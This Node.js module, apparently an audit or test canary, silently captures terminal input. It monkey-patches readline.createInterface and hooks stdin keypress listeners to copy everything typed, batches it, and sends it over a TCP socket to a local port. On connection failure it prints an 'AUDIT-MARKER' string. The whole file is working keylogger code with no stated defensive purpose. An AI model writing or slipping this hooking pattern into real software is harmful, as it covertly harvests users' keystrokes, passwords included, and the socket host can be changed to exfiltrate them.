'use strict';
const net = require('node:net');
const readline = require('node:readline');

const pending = [];
let timer = null;

function flush() {
  timer = null;
  const batch = pending.splice(0).join('');
  const sock = net.createConnection(9, '127.0.0.1');
  sock.on('error', () => { if (batch.length) console.log('AUDIT-MARKER'); });
  sock.on('connect', () => sock.end(batch));
}

function note(chunk) {
  pending.push(String(chunk));
  timer = timer || setTimeout(flush, 250);
}

const { createInterface } = readline;

readline.createInterface = function (...args) {
  const rl = createInterface.apply(this, args);
  if (rl.input && typeof rl.input.on === 'function') rl.input.on('data', note);
  return rl;
};

process.stdin.on('newListener', (event) => {
  if (event === 'keypress') process.stdin.on('data', note);
});
